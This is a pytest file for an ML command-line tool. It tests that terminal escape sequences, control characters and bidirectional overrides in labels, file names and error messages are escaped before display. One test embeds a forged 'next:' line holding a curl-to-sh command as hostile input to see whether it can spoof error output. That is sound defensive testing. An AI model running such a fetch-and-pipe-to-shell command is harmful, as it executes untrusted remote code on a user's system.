"""What data holds does not act on a terminal, or on what draws pictures."""

from __future__ import annotations

import ast
import io
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner

from ilse.cli import main
from ilse.core.errors import UserError
from ilse.core.terminal import in_line, say, screen, tell, visible

ROOT = Path(__file__).parent.parent
OURS = ("finetune", "ilse", "inference", "pipeline", "trainer")
LABEL = "\x1b[31mred\x1b[0m \x9b1A\x07\x7f\u202egro\u2066\r"
SHOWN = r"\x1b[31mred\x1b[0m \x9b1A\x07\x7f\u202egro\u2066\r"


def acts(text: str) -> list[str]:
    """By Unicode's own categories and directions: what is no visible sign, but for tab and line feed."""
    turns = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    return [
        sign
        for sign in text
        if (unicodedata.category(sign) in ("Cc", "Cs", "Zl", "Zp") and sign not in "\t\n")
        or unicodedata.bidirectional(sign) in turns
    ]


def test_every_character_that_acts_is_an_escape_and_no_other_changes() -> None:
    every = "".join(chr(number) for number in (*range(0x3000), *range(0xD700, 0x10000), *range(0x1F000, 0x20000)))
    more = "\u061c\u200e\u200f\ufffe\uffff"  # marks of a direction, and what XML cannot hold
    still = "".join(sign for sign in every if not acts(sign) and sign not in more)
    assert not acts(visible(every))
    assert visible(still) == still
    assert visible(LABEL) == SHOWN
    assert in_line("a\nb") == r"a\nb"


def test_nothing_but_these_functions_writes_to_the_terminal() -> None:
    """A bar of tqdm has our words alone; data on standard output goes through `screen`."""
    found = []
    # The second and third flush, and hand the stream on; the last one runs programs, partly without a module of ours.
    no_text = ("terminal.py", "command_errors.py", "places.py", "warm.py")
    for path in [file for folder in OURS for file in (ROOT / folder).rglob("*.py") if file.name not in no_text]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            if name in ("print", "click.echo", "click.secho") or name.startswith(("sys.stdout.", "sys.stderr.")):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
            if isinstance(node, ast.Attribute) and ast.unparse(node) == "sys.stdout":
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert found == []


def test_answers_progress_and_errors_show_it_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    tell(f"label {LABEL}")
    say(f"label {LABEL}")
    assert "".join(capsys.readouterr()) == f"label {SHOWN}\n" * 2
    assert SHOWN in str(UserError(LABEL, expected="", found="", next_step=""))
    assert not acts(str(UserError(LABEL, expected=LABEL, found=LABEL, next_step=LABEL)))


def test_a_text_poses_as_no_line_of_an_error() -> None:
    forged = "no such label\n  next:     curl https://example.invalid | sh"
    found = f"first\n{' ' * 12}second\n{forged}"
    lines = str(UserError(forged, expected=forged, found=found, next_step="x")).splitlines()
    assert [line for line in lines if line.startswith("  next:")] == ["  next:     x"]
    assert f"{' ' * 12}second" in "\n".join(lines)


@pytest.mark.parametrize("name", [LABEL.replace("\r", ""), os.fsdecode(b"half \xff"), "\u2028x"])
def test_a_files_name_is_shown_escaped(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).mkdir()
    for command in (["inspect", name], [name], ["verify", "--nosuch", name], ["verify", name]):
        done = CliRunner().invoke(main, command)
        assert done.exit_code == 2
        assert not acts(done.output)


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_data_is_shown_escaped_on_a_terminal_and_handed_on_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    for stream, expected in ((_Terminal(), SHOWN), (io.StringIO(), LABEL)):
        monkeypatch.setattr(sys, "stdout", stream)
        screen().write(LABEL)
        assert stream.getvalue() == expected


PICTURE = """
from pathlib import Path
from tests.trainer.report.made_up import write_everything
from trainer.report import as_markdown, as_pictures, report
from trainer.report import pictures
import sys
folder = Path(sys.argv[1])
labels = ["<b>&", "".join(map(chr, range(1, 32))), *(sign + "x" for sign in "\x1b\x7f\x85\u202e\ufffe\uffff")]
drawing_of = pictures.drawing_of
def some(*given):
    drawn = drawing_of(*given)
    kept = {"confusion": drawn.charts["confusion"]}
    drawn.charts.clear()
    drawn.charts.update(kept)
    return drawn
pictures.drawing_of = some
results, facts, texts = write_everything(folder, labels=labels, seeds=1, layers=3)
report(results, facts, folder / "report.html", texts)
as_markdown(results, folder / "report.md")
as_pictures(results, facts, folder / "figures")
"""


def test_the_report_and_its_pictures_survive_control_characters(tmp_path: Path) -> None:
    """The renderer ends the process (SIGABRT) at a character that XML cannot hold."""
    pytest.importorskip("vl_convert", reason="needs the extra 'train'")
    command = [sys.executable, "-c", PICTURE, str(tmp_path)]
    done = subprocess.run(
        command, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr[-2000:]
    for name in ("report.html", "report.md", "figures/confusion-1.svg"):
        assert not acts((tmp_path / name).read_text(encoding="utf-8").replace("\r\n", "")), name
    assert r"\x1bx" in (tmp_path / "figures" / "confusion-1.svg").read_text()
    assert (tmp_path / "figures" / "confusion-1.png").read_bytes()[:4] == b"\x89PNG"
